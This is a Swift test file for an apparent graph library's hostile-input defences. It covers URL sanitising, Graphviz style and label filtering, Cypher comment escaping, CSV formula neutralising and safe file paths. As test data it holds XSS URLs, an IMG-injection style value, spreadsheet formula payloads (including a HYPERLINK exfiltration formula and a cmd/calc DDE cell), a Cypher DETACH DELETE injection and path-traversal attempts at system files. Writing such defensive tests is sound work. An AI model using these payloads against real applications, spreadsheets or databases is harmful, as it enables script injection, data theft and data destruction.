import Foundation
import Testing
@testable import EventGraph

/// The hostile-input corpus (Fixtures/hostile): each file is a way graph data could attack
/// an output (a link, a label, a spreadsheet cell, a file path), checked through the
/// library's own outputs: page HTML and data, DOT text, exports, loader errors.
struct HostileInputTests {
    static let folder = Fixtures.root.appendingPathComponent("Tests/EventGraphTests/Fixtures/hostile")

    static func load(_ name: String) throws -> GraphView {
        try GraphLoader().load(paths: [folder.appendingPathComponent(name).path])
    }

    static func loadErrors(_ name: String) -> String {
        do {
            _ = try load(name)
            return ""
        } catch let error as InputError {
            return error.description
        } catch {
            return "unexpected \(error)"
        }
    }

    // MARK: URLs

    @Test("javascript:, data:, vbscript:, file: and scheme-less URLs in any casing or spacing are never links", arguments: [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "   javascript:alert(1)", "\tjavascript:alert(1)", "java\tscript:alert(1)",
        "\njavascript:alert(1)", "\u{1}javascript:alert(1)", "\u{0}javascript:alert(1)", "javascript&#58;alert(1)",
        "data:text/html,<script>alert(1)</script>", " DATA:text/html;base64,PHNjcmlwdD4=", "vbscript:msgbox(1)",
        "file:///etc/passwd", "//evil.example/x", "example.com/page", "", "  ", ":", "1http://x", "https\u{0}://x",
    ])
    func refusedURLs(url: String) {
        #expect(SafeURL.link(url) == nil, "\(url.debugDescription) would be a link")
    }

    @Test("http, https and mailto URLs stay links, trimmed and with their scheme in any case", arguments: [
        ("https://example.com/a?b=1&c=2", "https://example.com/a?b=1&c=2"), ("  HTTP://example.com ", "HTTP://example.com"),
        ("MAILTO:someone@example.com", "MAILTO:someone@example.com"), ("ht\ttps://example.com", "https://example.com"),
    ])
    func allowedURLs(url: String, link: String) {
        #expect(SafeURL.link(url) == link)
    }

    /// Every `url` the page's embedded data carries, from every evidence item.
    static func pageURLs(_ page: HTMLPage) throws -> (links: [String], texts: [String]) {
        let object = try JSONSerialization.jsonObject(with: Data(page.data.compactText.utf8)) as? [String: Any]
        let events = try #require(object?["events"] as? [[String: Any]])
        let sources = events.flatMap { $0["sources"] as? [[String: Any]] ?? [] }
        return (sources.compactMap { $0["url"] as? String }, sources.compactMap { $0["urlText"] as? String })
    }

    @Test("the HTML page carries only the https and mailto URLs as links; the others only as text")
    func pageLinks() throws {
        let graph = try Self.load("urls.yaml")
        let page = HTMLPage(graph: graph, diagram: graph.diagram(.actors))
        let urls = try Self.pageURLs(page)
        // An https URL with a quote in it stays a link: the page escapes it inside href="…".
        #expect(urls.links == ["https://example.com/\"onmouseover=\"alert(1)", "https://example.com/a?b=1&c=2", "MAILTO:someone@example.com"])
        #expect(urls.texts.count == 13)
        #expect(urls.texts.contains("javascript:alert(1)"))
        let html = page.html(svg: "<svg></svg>")
        // The script repeats the rule before writing any href.
        #expect(html.contains("const safeURL = (u) =>"))
        #expect(html.contains("const link = safeURL(s.url);"))
        #expect(!html.lowercased().contains("href=\"javascript"))
        // No string in the data can close the script element.
        #expect(!html.contains("<script>alert"))
    }

    @Test("TimelineJS citations link only http, https and mailto sources; the others show the URL as text")
    func timelineJSLinks() throws {
        let graph = try Self.load("urls.yaml")
        guard case let .file(text) = TimelineJSExporter().export(graph) else {
            Issue.record("TimelineJS is one file")
            return
        }
        let hrefs = text.ranges(of: #/href=\\"([^"\\]*)\\"/#).map { String(text[$0]) }
        #expect(hrefs.count == 3, "\(hrefs)")
        #expect(hrefs.allSatisfy { $0.contains("https://example.com") || $0.contains("MAILTO:") })
        #expect(text.contains("js lower (javascript:alert(1))"))
    }

    // MARK: Graphviz labels and attributes

    @Test("a style value that would inject an IMG into the legend is rejected at load, at FILE:LINE:COLUMN")
    func styleInjectionRejected() {
        let errors = Self.loadErrors("style-img.yaml")
        #expect(errors.contains("style-img.yaml:7:52: error: '#fff\"><IMG SRC=\"/etc/hostname\"/></TD><TD BGCOLOR=\"#fff' is not a colour for 'fill'"))
    }

    @Test("shapes that read files, colours that are not colours and non-boolean dashed are each an error")
    func styleValuesRejected() {
        let errors = Self.loadErrors("style-values.yaml").split(separator: "\n").map(String.init)
        #expect(errors.count == 5)
        #expect(errors.contains { $0.contains(":6:23: error: 'epsf' is not a Graphviz shape") })
        #expect(errors.contains { $0.contains(":6:36: error: 'url(#x)' is not a colour for 'color'") })
        #expect(errors.contains { $0.contains(":6:53: error: 'red;background:url(x)' is not a colour for 'fill'") })
        #expect(errors.contains { $0.contains(":10:23: error: '#12345' is not a colour") })
        #expect(errors.contains { $0.contains(":10:41: error: dashed must be true or false") })
    }

    @Test("StyleValue accepts real colours and shapes and explains everything else", arguments: [
        ("color", "#abc", true), ("color", "#AABBCC", true), ("fill", "#aabbcc80", true), ("fill", "SteelBlue", true),
        ("color", "transparent", true), ("shape", "box3d", true), ("shape", "Mdiamond", true), ("dashed", "true", true),
        ("color", "#abcd", false), ("color", "#ggg", false), ("fill", "red\"", false), ("color", "0.5 0.5 0.5", false),
        ("color", "/x11/red", false), ("shape", "epsf", false), ("shape", "custom", false), ("dashed", "yes please", false),
        ("image", "/etc/passwd", false),
    ])
    func styleValues(field: String, value: String, valid: Bool) {
        #expect((StyleValue.problem(field: field, value: value) == nil) == valid)
    }

    @Test("a style built in code never holds an invalid value, so the legend cannot be broken either")
    func styleStructRefusesBadValues() {
        var style = Schema.Style(shape: "epsf", color: "#fff\"><IMG SRC=\"/x\"/>", fill: "#fff")
        #expect(style.shape == nil && style.color == nil && style.fill == "#fff")
        style.fill = "x\"/><IMG SRC=\"/y\"/>"
        #expect(style.fill == nil)
    }

    @Test("the DOT writer drops attributes that make Graphviz read files, and IMG elements from HTML labels")
    func dotAttributeAllowList() {
        let document = DOTDocument(name: "g", attributes: [DOTAttribute("imagepath", "/"), DOTAttribute("fontpath", "/"), DOTAttribute("stylesheet", "x.css")],
                                   statements: [
                                       .node("n", [DOTAttribute("image", "/etc/hostname"), DOTAttribute("shapefile", "/etc/hostname"),
                                                   DOTAttribute("label", html: "<TABLE><TR><TD><img src=\"/etc/hostname\"/>x</TD><TD><IMG\nSRC='/y'></TD></TR></TABLE>"),
                                                   DOTAttribute("color", "red")]),
                                   ])
        let text = document.text
        for word in ["image", "shapefile", "fontpath", "imagepath", "stylesheet", "/etc/hostname"] {
            #expect(!text.lowercased().contains(word), "\(word) in \(text)")
        }
        #expect(text.contains("\"n\" [label=<<TABLE><TR><TD>x</TD><TD></TD></TR></TABLE>>, color=\"red\"];"))
    }

    @Test("NUL and control characters in names never reach DOT or labels; line breaks never enter label attributes",
          arguments: DiagramView.allCases)
    func controlCharacters(view: DiagramView) throws {
        let graph = try Self.load("control-names.yaml")
        let text = graph.diagram(view).text
        let controls = text.unicodeScalars.filter { ($0.value < 0x20 && $0 != "\n") || $0.value == 0x7F || (0x80...0x9F).contains($0.value) }
        #expect(controls.isEmpty, "control characters \(controls.map(\.value)) in the \(view) view")
        // Inside an HTML-like label, a name's line break is <br/> in text but never inside TITLE="…".
        #expect(text.firstMatch(of: #/TITLE="[^"]*</#) == nil)
        #expect(text.contains("Nul\u{FFFD}byte"))
    }

    @Test("the page escapes a title with control characters and markup")
    func pageTitle() throws {
        let graph = try Self.load("control-names.yaml")
        let html = HTMLPage(graph: graph, diagram: graph.diagram(.actors)).html(svg: "<svg></svg>")
        #expect(html.contains("<title>Control \u{FFFD} characters</title>"))
        #expect(!html.unicodeScalars.contains("\u{0}"))
        #expect(!html.contains("<IMG SRC"))
    }

    @Test("a graph title with a carriage return cannot end the Cypher export's comment line and inject a statement")
    func cypherComment() throws {
        let graph = try GraphLoader().load([InputDocument(name: "t.yaml", text: "title: \"x\\rMATCH (n) DETACH DELETE n\\u2028CREATE (m)\"\n")])
        guard case let .file(text) = CypherExporter().export(graph) else {
            Issue.record("Cypher is one file")
            return
        }
        let lines = text.split(omittingEmptySubsequences: false) { $0.isNewline }
        #expect(!lines.contains { $0.hasPrefix("MATCH") || $0.hasPrefix("CREATE (m)") })
        #expect(text.hasPrefix("// EventGraph export: x MATCH (n) DETACH DELETE n CREATE (m)"))
    }

    // MARK: Spreadsheets

    static func csvFiles(_ exporter: some GraphExporter, _ graph: GraphView) throws -> [ExportFile] {
        guard case let .folder(files) = exporter.export(graph) else { throw CancellationError() }
        return files.filter { $0.name.hasSuffix(".csv") }
    }

    @Test("no CSV cell of the csv, kumu or neo4j-csv exports starts a formula; plain numbers stay numbers",
          arguments: ["csv", "kumu", "neo4j-csv"])
    func formulaCells(format: String) throws {
        let graph = try Self.load("formulas.yaml")
        let exporter: any GraphExporter = switch format {
        case "csv": CSVExporter()
        case "kumu": KumuExporter()
        default: Neo4jCSVExporter()
        }
        var cells: [String] = []
        for file in try Self.csvFiles(exporter, graph) {
            let bytes = Array(file.text.utf8)
            bytes.withUnsafeBufferPointer { buffer in
                var reader = CSVReader(buffer)
                while reader.next() { cells += reader.fields.map { reader.text($0) } }
                #expect(reader.problems.isEmpty)
            }
        }
        for cell in cells {
            let first = cell.unicodeScalars.first
            let formula = first.map { SpreadsheetCell.formulaStarts.contains($0) } ?? false
            #expect(!formula || SpreadsheetCell.isPlainNumber(cell), "formula cell \(cell.debugDescription) in \(format)")
        }
        #expect(cells.contains("'=HYPERLINK(\"http://x\"&A1,\"click me\")"))
        #expect(cells.contains("'+cmd|' /C calc'!A0"))
        #expect(cells.contains("-12.5"))
        if format != "kumu" { #expect(cells.contains("''=already quoted")) }
    }

    @Test("a comma, quote or line break followed by a combining mark is still quoted in CSV, and a CSV reader gets every field back")
    func csvCombiningMarks() {
        let fields = [",\u{301}", "\"\u{301}x", "a\"\u{301}\"b", "\n\u{308}", "plain", "é,è", "=1+\u{301}2"]
        let out = ExportSink.text { $0.writeCSVRecord(fields) }
        let line = fields.map(CSVWriter.field).joined(separator: ",") + "\r\n"
        #expect(out == line, "the byte-level writer and CSVWriter.field disagree")
        let bytes = Array(line.utf8)
        bytes.withUnsafeBufferPointer { buffer in
            var reader = CSVReader(buffer)
            let first = reader.next()
            #expect(first)
            let read = reader.fields.map { reader.text($0) }
            #expect(read == fields.map(SpreadsheetCell.neutralised))
            #expect(reader.problems.isEmpty)
            let second = reader.next()
            #expect(!second)
        }
    }

    @Test("export --format csv then import gives back the hostile names, the leading quotes removed")
    func formulaRoundTrip() throws {
        let graph = try Self.load("formulas.yaml")
        let files = try Self.csvFiles(CSVExporter(), graph)
        let back = try ImportTests.run(files.map { ($0.name, $0.text) })
        // Line breaks inside a field are kept as written (a carriage return too).
        #expect(back.actors.map(\.name).sorted() == graph.actors.map(\.name).sorted())
        #expect(back.events.first?.amount?.description == graph.events.first?.amount?.description)
        #expect(back.events.first?.title == "-1 point loss")
        #expect(back.sources.first?.title == "=1+1")
    }

    @Test("the neutralising mark is reversible for every value", arguments: [
        "=1", "+1", "-1", "-1.5e3", "@x", "\tx", "\rx", "'=x", "''=x", "'", "''", "'x", "x", "", "-", "+", "-12.5", "1-2", "-1-2",
    ])
    func reversible(value: String) {
        #expect(SpreadsheetCell.restored(SpreadsheetCell.neutralised(value)) == value)
    }

    // MARK: Source files of verify

    @Test("verify reads only regular files inside the sources folder, each refusal naming the reason")
    func verifySourcePaths() throws {
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("eventgraph-hostile-\(UUID().uuidString)")
        let sources = dir.appendingPathComponent("sources")
        try FileManager.default.createDirectory(at: sources.appendingPathComponent("folder"), withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: dir) }
        try "inside".write(to: sources.appendingPathComponent("ok.txt"), atomically: true, encoding: .utf8)
        try "outside".write(to: dir.appendingPathComponent("secret.txt"), atomically: true, encoding: .utf8)
        try FileManager.default.createSymbolicLink(atPath: sources.appendingPathComponent("out-link").path, withDestinationPath: "../secret.txt")
        try FileManager.default.createSymbolicLink(atPath: sources.appendingPathComponent("in-link").path, withDestinationPath: "ok.txt")
        try FileManager.default.createSymbolicLink(atPath: sources.appendingPathComponent("dev").path, withDestinationPath: "/dev/zero")
        let verifier = QuoteVerifier(sourcesFolder: sources.path)
        func reason(_ file: String) -> String {
            switch verifier.sourceText(file) {
            case let .success(text): "read: \(text)"
            case let .failure(refusal): refusal.reason
            }
        }
        #expect(reason("ok.txt") == "read: inside")
        #expect(reason("in-link") == "read: inside")
        #expect(reason("../secret.txt").contains("contains '..'"))
        #expect(reason("/etc/hostname").contains("is an absolute path"))
        #expect(reason("out-link").contains("is a symbolic link leading outside the sources folder"))
        #expect(reason("dev").contains("leading outside the sources folder"))
        #expect(reason("folder").contains("is not a regular file"))
        #expect(reason("missing.txt").contains("does not exist in the sources folder"))
        #expect(QuoteVerifier(sourcesFolder: "/proc/self").sourceText("environ") == .failure(.init(reason: "the sources folder /proc/self is inside /proc, which holds no source texts")))
    }
}

/// `-o`: only regular files or new names, never links, devices, folders or inputs.
struct OutputTargetTests {
    static func temporary() throws -> URL {
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("eventgraph-out-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
        return dir
    }

    static func reason(_ body: () throws -> Void) -> String? {
        do {
            try body()
            return nil
        } catch let error as OutputFileError {
            return error.reason
        } catch {
            return "unexpected \(error)"
        }
    }

    @Test("a symbolic link, a device, a folder and an input file are refused with a sentence; nothing is left behind")
    func refusals() throws {
        let dir = try Self.temporary()
        defer { try? FileManager.default.removeItem(at: dir) }
        let target = dir.appendingPathComponent("target.svg").path, link = dir.appendingPathComponent("link.svg").path
        try "old".write(toFile: target, atomically: true, encoding: .utf8)
        try FileManager.default.createSymbolicLink(atPath: link, withDestinationPath: target)
        #expect(Self.reason { try OutputFile.write(text: "x", to: link) }?.contains("is a symbolic link") == true)
        #expect(try String(contentsOfFile: target, encoding: .utf8) == "old")
        #expect(Self.reason { try OutputFile.write(text: "x", to: "/dev/null") }?.contains("not a regular file") == true)
        var info = stat()
        #expect(lstat("/dev/null", &info) == 0 && info.st_mode & S_IFMT == S_IFCHR)
        #expect(Self.reason { try OutputFile.write(text: "x", to: dir.path) }?.hasPrefix("it is a folder; give the name of a file") == true)
        #expect(Self.reason { try OutputFile.write(text: "x", to: target, inputs: [link]) }?.hasPrefix("it is the input file") == true)
        #expect(Self.reason { try OutputFile.write(text: "x", to: dir.appendingPathComponent("g.json").path, inputs: [dir.path]) }?
            .contains("inside the input folder") == true)
        #expect(Self.reason { try OutputFile.write(text: "x", to: dir.appendingPathComponent("no/such.svg").path) }?.contains("does not exist") == true)
        #expect(Self.reason { try OutputFolder.write([ExportFile(name: "a.csv", text: "1")], to: link) }?.contains("symbolic link") == true)
        let left = try FileManager.default.contentsOfDirectory(atPath: dir.path).sorted()
        #expect(left == ["link.svg", "target.svg"])
    }

    @Test("an existing file keeps its permissions; a new file follows the umask")
    func permissions() throws {
        let dir = try Self.temporary()
        defer { try? FileManager.default.removeItem(at: dir) }
        let existing = dir.appendingPathComponent("private.svg").path, fresh = dir.appendingPathComponent("new.svg").path
        try "old".write(toFile: existing, atomically: true, encoding: .utf8)
        chmod(existing, 0o600)
        try OutputFile.write(text: "new", to: existing)
        try OutputFile.write(text: "new", to: fresh)
        func mode(_ path: String) -> mode_t {
            var info = stat()
            stat(path, &info)
            return info.st_mode & 0o777
        }
        #expect(mode(existing) == 0o600)
        #expect(mode(fresh) == 0o666 & ~OutputTarget.currentUmask())
        #expect(try String(contentsOfFile: existing, encoding: .utf8) == "new")
        let folder = dir.appendingPathComponent("out").path
        try OutputFolder.write([ExportFile(name: "a.csv", text: "1")], to: folder)
        chmod(folder + "/a.csv", 0o640)
        try OutputFolder.write([ExportFile(name: "a.csv", text: "2")], to: folder)
        #expect(mode(folder + "/a.csv") == 0o640)
    }
}
